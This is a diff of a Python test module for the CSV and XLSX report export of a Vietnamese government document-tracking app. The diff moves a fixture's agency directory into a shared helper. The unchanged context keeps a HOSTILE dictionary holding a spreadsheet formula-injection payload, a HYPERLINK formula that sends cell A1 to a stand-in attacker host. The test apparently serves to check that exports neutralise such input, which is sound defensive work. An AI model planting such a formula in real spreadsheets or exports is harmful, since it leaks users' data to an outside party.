@@ -19,7 +19,14 @@ from openpyxl import load_workbook
 
 from dondoc.settings import Settings
 from dondoc.store.reports import AgencyLine, PeriodReport, to_csv, to_xlsx
-from support.seeded import DONDOC, environment_of, into_read_model, notice_document, seeded_settings
+from support.seeded import (
+    DONDOC,
+    directory_document,
+    environment_of,
+    into_read_model,
+    notice_document,
+    seeded_settings,
+)
 
 HOSTILE = {
     "SNGV": '=HYPERLINK("http://ke-gian.test/?d="&A1,"Bấm vào đây")',
@@ -32,21 +39,12 @@ DAY = date(2026, 10, 5)
 
 @pytest.fixture(scope="module")
 def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
-    directory = {
-        "office": {"name": "Văn phòng UBND tỉnh", "email": "vanphong@ubnd.test"},
-        "leaders": [
-            {
-                "code": "PCT-VINH",
-                "name": "Phùng Thành Vinh",
-                "title": "Phó Chủ tịch UBND tỉnh",
-                "email": "pct.vinh@ubnd.test",
-            }
-        ],
-        "agencies": [
+    directory = directory_document(
+        [
             {"code": code, "name": name, "email": f"{code.lower()}@ubnd.test"}
             for code, name in HOSTILE.items()
-        ],
-    }
+        ]
+    )
     settings = seeded_settings(
         tmp_path_factory.mktemp("reports"), yaml.safe_dump(directory, allow_unicode=True)
     )
